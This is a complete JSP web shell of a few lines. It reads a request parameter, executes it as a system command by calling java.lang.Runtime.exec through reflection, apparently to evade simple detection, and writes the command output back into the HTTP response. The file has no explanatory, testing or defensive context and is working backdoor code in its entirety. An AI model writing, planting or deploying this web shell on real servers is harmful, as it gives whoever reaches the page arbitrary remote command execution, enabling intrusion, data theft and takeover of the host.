<%
    String a = request.getParameter("a");
    Class rt = Class.forName("java.lang.Runtime");
    Object runtime = rt.getMethod("getRuntime").invoke(null);
    Process p = (Process) rt.getMethod("exec", String.class).invoke(runtime, a);
    java.util.Scanner s = new java.util.Scanner(p.getInputStream()).useDelimiter("\\A");
    out.print(s.hasNext() ? s.next() : "");
%>
